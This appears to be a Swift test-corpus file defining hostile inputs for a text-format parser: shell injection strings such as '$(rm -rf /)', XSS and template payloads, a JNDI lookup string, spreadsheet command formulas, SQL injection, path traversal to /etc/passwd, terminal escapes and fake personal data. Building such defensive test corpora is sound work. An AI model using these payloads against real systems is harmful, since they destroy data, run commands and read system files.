import Diagnostics

extension HostileCorpus {
  /// What other programs would obey; for the format it is text, unless it holds what may not stand.
  static let payloads = collected([
    .registers(
      "commands of a shell",
      texts: [
        "$(rm -rf /)", "`id`", "; rm -rf ~", "| sh", "&& reboot", "$IFS", "~root", "> /etc/passwd",
        "-rf", "--help", "!!", "\\", "%COMSPEC%",
      ].map { "Name: \($0)\n" }),
    .registers(
      "quotation marks",
      texts: ["\"", "'", "”", "\"\"\"", "\\\"", "'\"'\"'", "«»", "„“"].map { "Name: \($0)\n" }),
    .registers(
      "HTML and scripts",
      texts: [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg onload=x>",
        "&lt;b&gt;", "]]>", "<!--", "<?php x ?>", "\"><a href=javascript:x>",
      ].map { "Name: \($0)\n" }),
    .values(
      "sequences that a terminal obeys", .forbiddenCharacter,
      texts: [
        "\u{1B}[31m", "\u{1B}]0;x\u{7}", "\u{1B}]8;;https://a.fi\u{1B}\\", "\u{1B}[2J\u{1B}[H",
        "\u{1B}c", "\u{1B}P$q\"p\u{1B}\\", "\u{1B}[6n",
      ]),
    .registers(
      "formulas of a spreadsheet",
      texts: [
        "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"https://a.fi\")", "=cmd|' /C calc'!A0",
        "\t=1",
      ].map { "Name: \($0)\n" }),
    .registers(
      "templates and format strings",
      texts: [
        "%s%s%s%n", "{0}", "${jndi:ldap://a.fi/x}", "{{7*7}}", "#{x}", "<%= x %>", "{% x %}", "$x",
        "\\u{202E}", "&#x202E;", "%00", "\\0",
      ].map { "Name: \($0)\n" }),
    .registers(
      "queries and paths",
      texts: [
        "'; DROP TABLE registers; --", "1 OR 1=1", "../../../../etc/passwd", "C:\\Windows",
        "\\\\a\\b",
        "/dev/null", "nul", "..\\..", "file:///etc/passwd",
      ].map { "Name: \($0)\n" }),
    .registers(
      "Markdown",
      texts: ["[a](javascript:x)", "**a**", "| a | b |", "![](x)", "```", "# a", "- [ ] a", "<a>"]
        .map { "Name: \($0)\n" }),
  ])

  /// Files that are something else altogether.
  static let otherFormats = collected([
    .registers("TOML", .textBeforeFirstField, texts: ["[table]\nkey = \"value\"\n", "a = 1\n"]),
    .registers("YAML", .textBeforeFirstField, .unknownKey, texts: ["---\nzq: a\n"]),
    .registers(
      "JSON", .textBeforeFirstField, .indentedComment, texts: ["{\n  #\"name\": \"a\"\n}\n"]),
    .registers(
      "JSON on one line", .unknownKey, texts: ["{\"name\": \"a\"}\n", "{a:{b:{c:1}}}\n"]),
    .registers(
      "XML", .textBeforeFirstField,
      texts: ["<?xml version=\"1.0\"?>\n<a/>\n", "<!DOCTYPE a [<!ENTITY b \"b\">]>\n<a>&b;</a>\n"]),
    .registers("CSV", .textBeforeFirstField, texts: ["Name;Text\na;b\n", "Name,Text\n\"a\",b\n"]),
    .registers(
      "a patch", .textBeforeFirstField, texts: ["--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"]),
    .registers(
      "a script", .textBeforeFirstField, texts: ["#!/bin/sh\nrm -rf /\n", "#!/bin/sh\nx=1\n"]),
    .registers(
      "compressed and binary files", .invalidUTF8, .forbiddenCharacter, .textBeforeFirstField,
      .missingFinalNewline,
      bytes: [
        [0x50, 0x4B, 3, 4, 0x14, 0, 0, 0, 8, 0, 0xFF, 0xD8],
        [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3], [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0xFF],
        [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], [0x89, 0x50, 0x4E, 0x47, 0, 0x1A],
      ]),
    .registers(
      "random bytes", .invalidUTF8, .forbiddenCharacter, .textBeforeFirstField,
      .missingFinalNewline,
      bytes: ([1, 2, 3] as [UInt64]).map { seed in
        var generator = SeededGenerator(seed: seed)
        return (0..<400).map { _ in UInt8.random(in: 0x80...0xFF, using: &generator) } + [0]
      }),
  ])

  /// Personal data, and very much that only looks like it.
  static let personalData: [HostileInput] = collected([
    .registers(
      "identity codes", .identityCode,
      texts: ["Name: 131052-308T\n", "# 131052-308t\n", "Text:\n    (131052–308T)\n"]),
    .large(
      "a million identity codes", 1, .identityCode, after: "Text:\n", repeating: "    131052-308T\n"
    ),
    .large(
      "identity codes in a million tries", 1, after: "Text: a", repeating: " 131052-308U", end: "\n"
    ),
    .large(
      "identity codes in a million tries", 2, after: "Text: a", repeating: "131052-", end: "\n"),
    .large("digits without end", 1, after: "Text: a", repeating: "0", end: "\n"),
    .large("digits without end", 2, after: "Text: a", repeating: " 0", end: "\n"),
    .large(
      "a million phone numbers", 1, .phoneNumber, after: "Text:\n", repeating: "    040 123 4567\n"),
    .large("a million plus signs", 1, after: "Text: a", repeating: " +(", end: "\n"),
    .large("a million addresses", 1, .emailAddress, after: "Text:\n", repeating: "    a@a.fi\n"),
    .large("an address without end", 1, after: "Text: ", repeating: "a@", end: "\n"),
    .large("an address without end", 2, after: "Text: a@a", repeating: ".a", end: "\n"),
    .large("an address without end", 3, after: "Text: a", repeating: "(at)", end: "\n"),
  ])
}
